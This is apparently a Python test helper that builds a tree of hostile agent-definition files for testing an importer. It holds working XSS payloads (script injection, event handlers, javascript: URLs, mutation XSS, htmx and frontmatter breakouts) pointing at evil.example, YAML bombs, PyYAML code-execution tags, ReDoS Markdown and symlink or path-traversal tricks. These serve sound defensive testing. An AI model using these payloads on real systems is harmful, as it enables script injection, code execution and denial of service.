"""Build a tree of hostile definition files to import.

Every payload that would do something if it ran sets ``window.__pwned`` or points at
``evil.example``, so a browser test can look for the one and the HTML checks for the other.
Every file that has a body carries the word ``quixotic`` in its responsibilities, so one
search finds them all and renders their text as search results.

The tree is one collection (``hostile/``) holding an ``agents/`` folder; files that cannot
be made on this machine (a device node needs root) are left out and not expected.
"""

import codecs
import os
import stat
from dataclasses import dataclass, field
from pathlib import Path

from catalog.core import parsing

SEARCH_WORD = "quixotic"
BREAKOUT_WORD = "zugzwang"  # only in the breakout agent, next to markup that survives item extraction
EVIL = "evil.example"
SECRET = "TOP-SECRET-OUTSIDE-THE-ROOT"
MIB = 1024 * 1024

# ---------------------------------------------------------------------------
# Markdown and HTML that tries to execute, one file per family
# ---------------------------------------------------------------------------

SCRIPTS = """
<script>window.__pwned = "script"</script>
<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>
<script/src="data:text/javascript,window.__pwned=1"></script>
<scr<script>ipt>window.__pwned=1</scr</script>ipt>
<<script>script>window.__pwned=1<</script>/script>
<script type="application/json" id="graph-data">{"nodes": [{"id": "evil.example"}]}</script>
<script type="module">import "https://evil.example/pwn.mjs"</script>
"""

HANDLERS = """
<img src=x onerror="window.__pwned='onerror'">
<img src="https://example.com/a.png" onerror=window.__pwned=1>
<body onload=window.__pwned=1>
<div onmouseover="window.__pwned=1">hover</div>
<a href="https://example.com/" onclick="window.__pwned=1">click</a>
<details open ontoggle=window.__pwned=1><summary>toggle</summary></details>
<input autofocus onfocus=window.__pwned=1>
<video><source onerror=window.__pwned=1></video>
<p ONCLICK=window.__pwned=1>upper-case handler</p>
<span/onmouseover=window.__pwned=1>slash-separated handler</span>
<marquee onstart=window.__pwned=1>marquee</marquee>
"""

URLS = """
[plain](javascript:window.__pwned=1)
[mixed case](JaVaScRiPt:window.__pwned=1)
[leading space]( javascript:window.__pwned=1)
[entity](&#106;avascript:window.__pwned=1)
[hex entity](&#x6A;&#x61;vascript:window.__pwned=1)
[named entity](javascript&colon;window.__pwned=1)
[tab entity](jav&#x09;ascript:window.__pwned=1)
[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)
[vbscript](vbscript:msgbox(1))
[reference][evil-ref] and [collapsed][] and [shortcut]

[evil-ref]: javascript:window.__pwned=1
[collapsed]: data:text/html,<script>window.__pwned=1</script>
[shortcut]: VBScript:msgbox(1)

![image](javascript:window.__pwned=1)
![data image](data:image/svg+xml,<svg onload=window.__pwned=1>)

<javascript:window.__pwned=1>
<data:text/html,pwn>
<a href="javascript:window.__pwned=1">raw link</a>
<a href="&#x01;javascript:window.__pwned=1">control character</a>
<a href=" &#14;  javascript:window.__pwned=1">spaces and a control</a>
<a href="java&#x0A;script:window.__pwned=1">newline entity</a>
<a href="JAVASCRIPT&#58;window.__pwned=1">colon entity</a>
<img src="javascript:window.__pwned=1">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="https://evil.example/pwn" formaction="javascript:window.__pwned=1">formaction</a>
<a href="//evil.example/pwn">protocol-relative</a>
"""

SVG_MATH = """
<svg><script>window.__pwned=1</script></svg>
<svg onload=window.__pwned=1></svg>
<svg><a xlink:href="javascript:window.__pwned=1"><text x="20" y="20">svg link</text></a></svg>
<svg><animate attributeName="href" values="javascript:window.__pwned=1"/></svg>
<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='window.__pwned=1'/&gt;#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>window.__pwned=1</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>
<math href="javascript:window.__pwned=1">math link</math>
<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">x</maction></math>
"""

FRAMES_FORMS = """
<iframe src="https://evil.example/pwn"></iframe>
<iframe srcdoc="<script>window.__pwned=1</script>"></iframe>
<object data="https://evil.example/pwn.swf"></object>
<embed src="https://evil.example/pwn.swf">
<applet code="https://evil.example/Pwn.class"></applet>
<form action="https://evil.example/pwn" method="post"><input name="password" type="password">
<button formaction="javascript:window.__pwned=1">Log in</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/pwn">
<base href="https://evil.example/pwn/">
<link rel="stylesheet" href="https://evil.example/pwn.css">
<style>body { background: url(https://evil.example/pwn) }</style>
<div style="background:url(javascript:window.__pwned=1);position:fixed;inset:0">overlay</div>
<frameset><frame src="https://evil.example/pwn"></frameset>
<isindex action="javascript:window.__pwned=1">
<textarea><script>window.__pwned=1</script></textarea>
<portal src="https://evil.example/pwn"></portal>
"""

MUTATION = """
<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>
<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">
<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__pwned=1 src=1>">
</textarea></mtext></svg></mglyph></mi></table></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>
<!--><img src=x onerror=window.__pwned=1>-->
<![CDATA[><img src=x onerror=window.__pwned=1>]]>
<xmp><img src=x onerror=window.__pwned=1></xmp>
<listing>&lt;img src=x onerror=window.__pwned=1&gt;</listing>
<template><img src=x onerror=window.__pwned=1></template>
<a href="https://example.com/</a><img src=x onerror=window.__pwned=1>">attribute with a closing tag</a>
<div title="&lt;/div&gt;&lt;img src=x onerror=window.__pwned=1&gt;">escaped inside</div>
<img src="x` `<script>window.__pwned=1</script>"` `>
<a title="`" href="`javascript:window.__pwned=1`">backticks</a>
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=window.__pwned=1>">
"""

HTMX = """
<div hx-get="/admin/" hx-trigger="load" hx-target="body">htmx get</div>
<button hx-post="/admin/logout/" hx-trigger="load">htmx post</button>
<div hx-on:click="window.__pwned=1">hx-on</div>
<div hx-on::load="window.__pwned=1">hx-on with a double colon</div>
<div hx-on-htmx-load="window.__pwned=1">hx-on dashed</div>
<div data-hx-get="https://evil.example/pwn" data-hx-trigger="load">data-hx</div>
<div hx-vals='js:{a: window.__pwned=1}'>hx-vals</div>
<a href="https://example.com/" hx-boost="true" hx-headers='{"X-Pwn": "1"}'>hx-boost</a>
<span hx-swap-oob="true" id="main">out of band</span>
<div hx-ext="pwn" hx-include="[name=csrfmiddlewaretoken]" hx-post="https://evil.example/pwn">hx-ext</div>
<meta name="htmx-config" content='{"allowEval": true, "allowScriptTags": true}'>
"""

CLOBBERING = """
<a id="graph-data" href="https://example.com/">graph-data</a>
<img name="neighbourhood-data" src="https://example.com/a.png">
<form id="htmx-config"><input name="attributes"></form>
<a id="location" href="https://evil.example/pwn">location</a>
<img name="getElementById" src="https://example.com/b.png">
<div id="main">a second main</div>
<a id="__proto__" name="cookie">proto</a>
<h2 id="graph">a heading with a chosen id</h2>
<span id="csrfmiddlewaretoken" name="csrfmiddlewaretoken">token</span>
"""

MARKUP_FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "urls": URLS,
    "svg-math": SVG_MATH,
    "frames-forms": FRAMES_FORMS,
    "mutation": MUTATION,
    "htmx": HTMX,
    "clobbering": CLOBBERING,
}


def agent_text(name, body, *, description=None, extra="", inline="plain words"):
    """A Claude Code agent whose responsibilities hold ``inline`` and whose body ends with ``body``."""
    description = description or f"Exercises the {name} family of hostile input."
    return (
        f"---\nname: {name}\ndescription: {description}\n{extra}---\n\n"
        f"# {name}\n\n## Core Responsibilities\n\n- Keep the {SEARCH_WORD} gate shut: {inline}\n\n"
        f"{body}\n\n## Success Metrics\n\n- Nothing {SEARCH_WORD} ever runs\n"
    )


def _markup_files():
    files = {}
    for family, payload in MARKUP_FAMILIES.items():
        # The payload in the body as HTML blocks, and one line of it inline in a list item,
        # where search results and item extraction show it again.
        first = next(line for line in payload.splitlines() if line.strip())
        files[f"agents/xss-{family}.md"] = agent_text(f"xss-{family}", payload, inline=first)
    return files


# ---------------------------------------------------------------------------
# Frontmatter that tries to break out of attributes, <script> JSON and graph tooltips
# ---------------------------------------------------------------------------

BREAKOUT = r"""---
name: "breakout\"><script>window.__pwned=1</script><!--"
description: "'\"><img src=x onerror=window.__pwned=1></script><script>window.__pwned=1</script>&lt;b&gt;"
model: "\" onmouseover=\"window.__pwned=1"
color: "red;background:url(javascript:window.__pwned=1)\" style=\"x"
tools:
  - Read
  - "<script>window.__pwned=1</script>"
  - "javascript:window.__pwned=1"
  - "Bash(</script><script>window.__pwned=1</script>)"
  - "mcp__evil.example__</script>"
skills: ["</script><img src=x onerror=window.__pwned=1>", "javascript:window.__pwned=1"]
argument-hint: "<svg onload=window.__pwned=1>"
x-link: "javascript:window.__pwned=1"
x-html: "<iframe src=javascript:window.__pwned=1></iframe>"
x-nested: {"</script><script>window.__pwned=1</script>": ["<!--<script>", "]]>", "\u2028\u2029", "hx-get=/admin/"]}
"<img src=x onerror=window.__pwned=1>": "a key that is HTML"
---

# Breakout engineer

## Core Responsibilities

- Keep the quixotic gate shut for </script><script>window.__pwned=1</script> and "quotes" and 'single'
- Hold the zugzwang line against <svg/onload=window.__pwned=1> and &lt;script&gt;window.__pwned=1&lt;/script&gt;

## Workflow Position

requirements-analyst → [breakout-engineer: YOU ARE HERE] → graph-bait-reviewer

## Success Metrics

- Nothing quixotic ever runs
"""

# Names the breakout agent, so the graph has a resolved node labelled with its hostile name
# and edges whose evidence lines carry </script>.
GRAPH_BAIT = """---
name: graph-bait-reviewer
description: Receives work from the breakout engineer and from a name that is an attack.
---

# Graph bait

## Core Responsibilities

- Review the quixotic gate after breakout-engineer hands it over </script><script>window.__pwned=1</script>

## Workflow Position

breakout-engineer → [graph-bait-reviewer: YOU ARE HERE] → script-window-pwned-reviewer

## Upstream Dependencies

- **breakout-engineer**: hands over the gate </script><!--<script>window.__pwned=1</script>
- **evil-engineer**: <img src=x onerror=window.__pwned=1> with "quotes" & ampersands

## Success Metrics

- Nothing quixotic ever runs
"""

# Copilot handoffs carry agent names and prompts straight from the frontmatter.
HANDOFFS = """---
description: A Copilot agent whose handoffs are attacks.
handoffs:
  - label: "</script><script>window.__pwned=1</script>"
    agent: "</script><script>window.__pwned=1</script>"
    prompt: "<img src=x onerror=window.__pwned=1>"
  - label: Review
    agent: graph-bait-reviewer
    prompt: "\\"><svg onload=window.__pwned=1>"
---

# Handoff agent

## Core Responsibilities

- Hand the quixotic gate to graph-bait-reviewer
"""

# ---------------------------------------------------------------------------
# YAML
# ---------------------------------------------------------------------------

BILLION_LAUGHS = "\n".join(
    [
        "name: yaml-bomb",
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        *(
            f"{letter}: &{letter} [{', '.join([f'*{prev}'] * 9)}]"
            for prev, letter in zip("abcdefgh", "bcdefghi", strict=True)
        ),
    ]
)


def _fm(yaml_text, title="yaml"):
    return f"---\n{yaml_text}\n---\n\n# {title}\n\n## Core Responsibilities\n\n- The {SEARCH_WORD} {title} case\n"


def _yaml_files(witness):
    """YAML that is dangerous, malformed or merely odd. ``witness`` must never be created."""
    return {
        # Rejected outright: expanding them is the attack.
        "agents/yaml-bomb.md": _fm(BILLION_LAUGHS, "bomb"),
        "agents/yaml-self-alias.md": _fm("name: yaml-self-alias\nloop: &loop [*loop]", "self-alias"),
        "agents/yaml-merge-alias.md": _fm("name: yaml-merge\nbase: &b {x: 1}\nmore:\n  <<: *b", "merge"),
        "agents/yaml-deep-flow.md": _fm("name: yaml-deep-flow\nx: " + "[" * 200 + "]" * 200, "deep-flow"),
        "agents/yaml-deep-block.md": _fm(
            "name: yaml-deep-block\n" + "".join(f"{'  ' * i}k{i}:\n" for i in range(40)) + "  " * 40 + "v: 1",
            "deep-block",
        ),
        # Read leniently or as plain strings: nothing is constructed, nothing runs.
        "agents/yaml-python-tags.md": _fm(
            f'name: !!python/object/apply:os.system ["touch {witness}"]\n'
            "description: !!python/name:os.system\n"
            f'model: !!python/object/new:subprocess.Popen [["touch", "{witness}"]]\n'
            "tools: !!python/module:os",
            "python-tags",
        ),
        "agents/yaml-huge-numbers.md": _fm(
            "name: yaml-huge-numbers\n"
            f"digits: {'9' * 5000}\n"
            f"big: {'1' * 40}\n"
            "float: 1e99999\n"
            "negative: -.inf\n"
            "nan: .nan\n"
            "hex: 0xffffffffffffffffffffffffffffffff\n"
            "date: 2024-13-45",
            "huge-numbers",
        ),
        "agents/yaml-duplicate-keys.md": _fm(
            "name: yaml-duplicate-keys\nname: yaml-duplicate-keys-again\ndescription: one\ndescription: two",
            "duplicate-keys",
        ),
        "agents/yaml-multi-document.md": _fm(
            "name: yaml-multi-document\n--- !!map\nname: second-document\n...\n%YAML 1.1", "multi-document"
        ),
        "agents/yaml-top-level-list.md": _fm("- name: listed\n- description: also listed", "top-level-list"),
        "agents/yaml-scalar.md": _fm("just a sentence, not keys", "scalar"),
        "agents/yaml-odd-types.md": _fm(
            "name: yaml-odd-types\n"
            "blob: !!binary aGVsbG8=\n"
            "set: !!set {a, b}\n"
            "pairs: !!omap [a: 1, b: 2]\n"
            "? [complex, key]\n: value\n"
            "tools: *\n"
            "~: null key",
            "odd-types",
        ),
        # Characters PostgreSQL cannot store (NUL) and Python cannot encode (a lone surrogate),
        # reached through YAML escapes rather than raw bytes.
        "agents/yaml-nul-escapes.md": _fm(
            'name: "yaml-nul\\0escapes"\n'
            'description: "a NUL \\0 here, a bell \\a and an escape \\e"\n'
            'model: "\\x00"\n'
            '"key\\0with-nul": "value\\x00"\n'
            'tools: ["Read\\0", "Bash(\\0:*)"]\n'
            'skills: ["nul\\0skill"]',
            "nul-escapes",
        ),
        "agents/yaml-surrogate-escapes.md": _fm(
            'name: yaml-surrogate-escapes\ndescription: "a lone surrogate \\ud800"\nx-surrogate: "\\udfff"',
            "surrogate-escapes",
        ),
    }


# ---------------------------------------------------------------------------
# Encodings
# ---------------------------------------------------------------------------

BIDI_NAME = "admin\u202egnp.exe\u202c"


def _encoding_files():
    def plain(label):
        return agent_text(f"enc-{label}", "Body text: café, naïve, 日本語, emoji 🚀.")

    return {
        "agents/enc-utf8-bom.md": codecs.BOM_UTF8 + plain("utf8-bom").encode(),
        "agents/enc-utf16le.md": codecs.BOM_UTF16_LE + plain("utf16le").encode("utf-16-le"),
        "agents/enc-utf16be-nobom.md": plain("utf16be-nobom").encode("utf-16-be"),
        "agents/enc-utf32.md": codecs.BOM_UTF32_LE + plain("utf32").encode("utf-32-le"),
        "agents/enc-latin1.md": plain("latin1").encode("latin-1", errors="replace"),
        "agents/enc-mojibake.md": plain("mojibake").encode().decode("cp1252", errors="replace").encode(),
        "agents/enc-nul.md": plain("nul").replace("Body", "B\x00o\x00dy\x00").encode(),
        "agents/enc-invalid-bytes.md": plain("invalid").encode()
        + b"\n\xed\xa0\x80 an encoded surrogate, \xc0\xbcscript\xc0\xbe overlong, \xff\xfe stray\n",
        "agents/enc-bidi.md": agent_text(
            BIDI_NAME, "Reads \u202eright to left\u202c and \u2066isolates\u2069.", description="bidi \u202eevil"
        ).encode(),
        "agents/enc-controls.md": agent_text(
            "enc-controls\x1b[31m\x07",
            "Escape \x1b[2J, bell \x07, vertical tab \x0b, form feed \x0c, delete \x7f, C1 \x85\x9b.",
            description="controls \x08\x1b",
        ).encode(),
        "agents/enc-line-separators.md": agent_text(
            "enc-line-separators", "JS breakers: \u2028 and \u2029 and </script>"
        ).encode(),
    }


# ---------------------------------------------------------------------------
# Sizes, and Markdown shapes that make renderers slow
# ---------------------------------------------------------------------------


def _padded(prefix, total, filler="lorem ipsum quixotic dolor\n"):
    """``prefix`` followed by filler lines, exactly ``total`` bytes long."""
    head = prefix.encode()
    body = (filler * (total // len(filler) + 1)).encode()
    return head + body[: total - len(head)]


def _frontmatter_of(size):
    """A file whose frontmatter YAML (between the fences) is exactly ``size`` bytes."""
    start = "name: fm-{}\ndescription: "
    label = "under" if size <= parsing.MAX_FRONTMATTER_BYTES else "over"
    head = start.format(label)
    yaml_text = head + "a" * (size - len(head))
    return f"---\n{yaml_text}\n---\n\n## Core Responsibilities\n\n- A {SEARCH_WORD} frontmatter of {size} bytes\n"


def _size_files():
    limit = parsing.MAX_FILE_BYTES
    header = "---\nname: size-{}\ndescription: A file at the size limit.\n---\n\n## Core Responsibilities\n\n"
    return {
        "agents/empty.md": b"",
        "agents/only-fences.md": b"---\n---\n",
        "agents/size-at-limit.md": _padded(header.format("at-limit"), limit),
        "agents/size-over-limit.md": _padded(header.format("over-limit"), limit + 1),
        "agents/fm-under.md": _frontmatter_of(parsing.MAX_FRONTMATTER_BYTES).encode(),
        "agents/fm-over.md": _frontmatter_of(parsing.MAX_FRONTMATTER_BYTES + 1).encode(),
    }


def _slow_shapes():
    """Markdown shapes that have made Markdown renderers quadratic or recursive."""
    table = "| a | b |\n|---|---|\n" + "".join(f"| {i} | <b>{i}</b> |\n" for i in range(2000))
    shapes = {
        "brackets": "[" * 50000,
        "nested-list": "".join(f"{'  ' * i}- level {i}\n" for i in range(1000)),
        "nested-quotes": ">" * 5000 + " deep",
        "table": table,
        "stars": "*a **" * 20000,
        "backticks": "`" * 50000,
        "angles": "<" * 50000,
        "open-divs": "<div>" * 20000,
        "links": "[a](" * 20000,
        "entities": "&#x" * 30000,
        "headings": "".join(f"# heading {i}\n" for i in range(10000)),
    }
    files = {f"agents/slow-{name}.md": agent_text(f"slow-{name}", body) for name, body in shapes.items()}
    # The same kind of shapes inside one list item or heading, where the item extractor and
    # the collaboration reader scan them line by line with regular expressions.
    in_item = {
        "item-backticks": "`" * 100_000,
        "item-brackets": "[" * 200_000,
        "item-images": "![" * 100_000,
        "item-emphasis": "**a " * 25_000,
        "item-links": "[a](" * 25_000,
        "item-spaces-arrow": " " * 200_000 + "-> x",
    }
    files |= {f"agents/slow-{name}.md": agent_text(f"slow-{name}", "", inline=line) for name, line in in_item.items()}
    files["agents/slow-heading-lists.md"] = agent_text("slow-heading-lists", "## " + "1. " * 30_000)
    return files


# ---------------------------------------------------------------------------
# Paths
# ---------------------------------------------------------------------------

DEVICE_NAMES = ("CON.md", "aux.md", "NUL.md", "com1.md", "LPT1.md", "PRN.agent.md")
ODD_NAMES = (
    "..double-dot..md",
    "a..b.md",
    "...md",
    "<img src=x onerror=window.__pwned=1>.md",
    "quote\"'&.md",
    "new\nline.md",
    "%2e%2e%2fetc%2fpasswd.md",
    "space name .md",
    "trailing-dot.md.",
    "invoice\u202egpj.md",
    "x" * 240 + ".md",
)


@dataclass
class HostileTree:
    """What ``build`` wrote and what an import of ``root`` should make of it."""

    root: Path  # the import root: one collection, "hostile"
    witness: Path  # must never exist: a YAML tag that ran code would create it
    files: list = field(default_factory=list)  # relpaths of every regular file written
    rejected: dict = field(default_factory=dict)  # relpath -> expected problem code
    specials: dict = field(default_factory=dict)  # relpath -> skip reason (symlinks, FIFOs, devices)
    undecodable_name: str = ""  # relpath of the file whose name is not valid UTF-8, if made


def _write(root, relpath, content):
    path = root / relpath
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def build(base, *, huge=True):
    """Write the hostile tree under ``base`` and return what it holds.

    ``huge`` adds the 50 MiB file (written for real, not sparse, so a reader that ignored
    the size limit would pay for all of it).
    """
    base = Path(base)
    root = base / "hostile"
    outside = base / "outside"
    outside.mkdir(parents=True)
    (outside / "secret.md").write_text(agent_text("outside-secret", SECRET))
    tree = HostileTree(root=root, witness=base / "witness-pwned")

    contents = {
        **_markup_files(),
        "agents/breakout-engineer.md": BREAKOUT,
        "agents/graph-bait-reviewer.md": GRAPH_BAIT,
        ".github/agents/handoff.agent.md": HANDOFFS,
        **_yaml_files(tree.witness),
        **_encoding_files(),
        **_size_files(),
        **_slow_shapes(),
        **{f"agents/{name}": agent_text(f"device-{name}", "A reserved device name.") for name in DEVICE_NAMES},
        **{f"agents/{name}": agent_text("odd-name", "An odd file name.") for name in ODD_NAMES},
    }
    for relpath, content in contents.items():
        _write(root, relpath, content)
    tree.files = sorted(contents)
    tree.rejected = {
        "agents/yaml-bomb.md": "yaml-alias",
        "agents/yaml-self-alias.md": "yaml-alias",
        "agents/yaml-merge-alias.md": "yaml-alias",
        "agents/yaml-deep-flow.md": "yaml-too-deep",
        "agents/yaml-deep-block.md": "yaml-too-deep",
        "agents/size-over-limit.md": "file-too-large",
        "agents/fm-over.md": "frontmatter-too-large",
    }
    if huge:
        with open(root / "agents/huge.md", "wb") as handle:
            handle.write(b"---\nname: huge\ndescription: fifty mebibytes\n---\n")
            chunk = b"quixotic " * (MIB // 9)
            for _ in range(50):
                handle.write(chunk)
        tree.files.append("agents/huge.md")
        tree.rejected["agents/huge.md"] = "file-too-large"

    # A file name that is not UTF-8 at all: os.walk hands it over with surrogate escapes.
    try:
        with open(os.fsencode(root / "agents") + b"/latin-\xe9\xff.md", "wb") as handle:
            handle.write(agent_text("undecodable-name", "Its file name is not UTF-8.").encode())
        tree.undecodable_name = "agents/latin-\udce9\udcff.md"
    except OSError:
        pass  # a file system that insists on UTF-8 names

    agents = root / "agents"
    (agents / "escape.md").symlink_to(outside / "secret.md")
    (agents / "escape-dir").symlink_to(outside, target_is_directory=True)
    (agents / "zero.md").symlink_to("/dev/zero")
    (agents / "dangling.md").symlink_to(base / "nowhere.md")
    (agents / "loop.md").symlink_to(agents / "loop.md")
    os.mkfifo(agents / "fifo.md")
    (agents / "inside-link.md").symlink_to(agents / "xss-scripts.md")
    (agents / "to-fifo.md").symlink_to(agents / "fifo.md")
    (agents / "folder.md").mkdir()
    (agents / "folder.md" / "inner.md").write_text(agent_text("inside-a-folder-named-md", "Nested."))
    tree.files.append("agents/folder.md/inner.md")
    tree.specials = {
        "agents/escape.md": "symlink leaves the import root",
        "agents/escape-dir": "symlink leaves the import root",
        "agents/zero.md": "symlink leaves the import root",
        "agents/dangling.md": "broken symlink",
        "agents/loop.md": "broken symlink",
        "agents/fifo.md": "not a regular file",
        "agents/inside-link.md": "symlink to agents/xss-scripts.md",
        "agents/to-fifo.md": "symlink to agents/fifo.md",
    }
    if os.geteuid() == 0:  # only root may make a device node
        os.mknod(agents / "null.md", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        tree.specials["agents/null.md"] = "not a regular file"
    return tree
